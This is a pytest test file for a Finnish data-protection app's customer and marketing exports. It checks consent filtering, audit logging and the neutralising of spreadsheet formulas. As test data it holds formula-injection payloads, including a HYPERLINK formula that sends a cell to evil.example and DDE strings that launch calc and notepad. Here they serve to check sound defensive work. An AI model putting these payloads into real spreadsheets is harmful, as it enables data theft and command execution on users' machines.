"""Exports: the customer list as CSV and XLSX without restricted people, marketing lists that
leave out prohibitions, restrictions and missing or withdrawn consents (and say so), and cells
that a spreadsheet would run as formulas neutralised."""

from __future__ import annotations

import zipfile
from datetime import datetime
from xml.etree import ElementTree

import pytest
from helpers.sample import person

from tietosuoja_desktop.domain.enums import ConsentAction
from tietosuoja_desktop.domain.records import ConsentEvent
from tietosuoja_desktop.services.csv_files import neutralised, read_table
from tietosuoja_desktop.services.exporting import Exporter, ExportFormat, LeftOut
from tietosuoja_desktop.services.importing import Importer

PURPOSE = "Uutiskirje sähköpostitse"
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
ATTACKS = (
    '=HYPERLINK("http://evil.example/?x="&A1;"Avaa")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1 Aino",  # a name needs a letter; a leading tab would be trimmed (test_neutralised)
)


@pytest.fixture
def exporter(services):
    return Exporter(services)


def consent(services, customer, action: str, day: int, purpose: str = PURPOSE) -> None:
    services.activity.add_consent(
        ConsentEvent(customer.id, ConsentAction(action), purpose, datetime(2026, 1, day, 12))
    )


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+358401234567", "+358401234567"),  # a plain number cannot run anything
        ("-5", "-5"),
        ("-5+1", "'-5+1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Aino", "Aino"),
        ("", ""),
    ],
)
def test_neutralised(value, expected):
    assert neutralised(value) == expected


def test_customer_list_csv(services, exporter, tmp_path):
    names = [services.customers.add(person(first_name=a, email=f"p{i}@example.fi")).id
             for i, a in enumerate(ATTACKS)]  # fmt: skip
    plain = services.customers.add(person(first_name="Aino", email="aino@example.fi"))
    hidden = services.customers.add(person(first_name="Rajattu", email="r@example.fi"))
    services.customers.restrict(hidden.id)

    path = tmp_path / "asiakkaat.csv"
    report = exporter.customers(path)
    assert (report.format, report.exported) == (ExportFormat.CSV, len(names) + 1)
    assert report.left_out == {LeftOut.RESTRICTED.value: 1}
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # Excel reads UTF-8 with a BOM
    table = read_table(path)
    assert table.delimiter == ";"
    rows = {row.values[0]: dict(zip(table.headers, row.values, strict=True)) for row in table.rows}
    assert str(hidden.id) not in rows
    for customer_id, attack in zip(names, ATTACKS, strict=True):
        assert rows[str(customer_id)]["First name"] == "'" + attack
    aino = rows[str(plain.id)]
    assert aino["Phone"] == "+358407654321"
    assert aino["Customer since"] == "2026-11-22"
    assert "Personal identity code" not in table.headers


def test_an_exported_list_imports_back_as_it_was(services, exporter, tmp_path):
    services.customers.add(person(first_name=ATTACKS[0], email="x@example.fi"))
    path = tmp_path / "list.csv"
    exporter.customers(path)
    preview = Importer(services).preview(Importer.read(path))
    assert preview.rows[0].customer.first_name == ATTACKS[0]


def _sheet_cells(path):
    with zipfile.ZipFile(path) as archive:
        sheet = ElementTree.fromstring(archive.read("xl/worksheets/sheet1.xml"))
        styles = ElementTree.fromstring(archive.read("xl/styles.xml"))
    quoted = [
        index
        for index, xf in enumerate(styles.find(f"{MAIN}cellXfs"))
        if xf.get("quotePrefix") == "1"
    ]
    cells = {}
    for cell in sheet.iter(f"{MAIN}c"):
        assert cell.find(f"{MAIN}f") is None, "no cell may hold a formula"
        text = "".join(t.text or "" for t in cell.iter(f"{MAIN}t"))
        value = cell.find(f"{MAIN}v")
        cells[cell.get("r")] = (
            cell.get("t"),
            text if value is None else value.text,
            int(cell.get("s", 0)) in quoted,
        )
    return cells


def test_customer_list_xlsx_holds_text_not_formulas(services, exporter, tmp_path):
    for index, attack in enumerate(ATTACKS):
        services.customers.add(person(first_name=attack, email=f"p{index}@example.fi"))
    path = tmp_path / "asiakkaat.xlsx"
    report = exporter.customers(path)
    assert (report.format, report.exported) == (ExportFormat.XLSX, len(ATTACKS))
    cells = _sheet_cells(path)
    assert cells["A1"][1] == "Id" and cells["C1"][1] == "First name"
    assert cells["A2"][:2] == (None, "1")  # ids are numbers
    for row, attack in enumerate(ATTACKS, start=2):
        kind, text, quote_prefix = cells[f"C{row}"]
        assert (kind, text, quote_prefix) == ("inlineStr", attack, True)
    assert cells["D2"][2] is False  # an ordinary name gets no quote prefix
    assert not list(tmp_path.glob(".*part"))


def test_marketing_list_leaves_out_who_may_not_be_marketed_to(services, exporter, tmp_path):
    given = services.customers.add(person(first_name="Saa", email="saa@example.fi"))
    consent(services, given, "given", 1)
    again = services.customers.add(person(first_name="Uudelleen", email="u@example.fi"))
    for action, day in (("given", 1), ("withdrawn", 2), ("given", 3)):
        consent(services, again, action, day)
    withdrawn = services.customers.add(person(first_name="Peruttu", email="p@example.fi"))
    consent(services, withdrawn, "given", 1)
    consent(services, withdrawn, "withdrawn", 5)
    other = services.customers.add(person(first_name="Muu", email="m@example.fi"))
    consent(services, other, "given", 1, purpose="Tekstiviestitarjoukset")
    services.customers.add(person(first_name="Ei", email="ei@example.fi"))
    prohibited = services.customers.add(person(first_name="Kielto", email="k@example.fi"))
    consent(services, prohibited, "given", 1)
    services.customers.prohibit_marketing(prohibited.id)
    restricted = services.customers.add(person(first_name="Rajattu", email="r@example.fi"))
    consent(services, restricted, "given", 1)
    services.customers.restrict(restricted.id)

    assert exporter.marketing_purposes() == ["Tekstiviestitarjoukset", PURPOSE]
    path = tmp_path / "markkinointi.csv"
    report = exporter.marketing(path, f"  {PURPOSE} ")
    assert report.exported == 2
    assert report.left_out == {
        LeftOut.CONSENT_WITHDRAWN.value: 1,
        LeftOut.NO_CONSENT.value: 2,
        LeftOut.MARKETING_PROHIBITED.value: 1,
        LeftOut.RESTRICTED.value: 1,
    }
    assert report.left_out_total == 5
    table = read_table(path)
    emails = {row.values[table.headers.index("E-mail")] for row in table.rows}
    assert emails == {"saa@example.fi", "u@example.fi"}
    given_at = {row.values[3]: row.values[-1] for row in table.rows}
    assert given_at["u@example.fi"] == "2026-01-03"

    xlsx = exporter.marketing(tmp_path / "markkinointi.xlsx", PURPOSE)
    assert (xlsx.exported, xlsx.left_out) == (report.exported, report.left_out)


def test_exports_are_audited_without_names(services, exporter, tmp_path):
    services.customers.add(person(first_name="Aino"))
    exporter.customers(tmp_path / "a.csv", translate=lambda context, source: source.upper())
    entry = services.audit.recent(1)[0]
    assert (entry.action, entry.entity, entry.fields) == ("export", "customer",
                                                          ("customer_list", "csv"))  # fmt: skip
    assert read_table(tmp_path / "a.csv").headers[0] == "ID"  # headers in the user's language
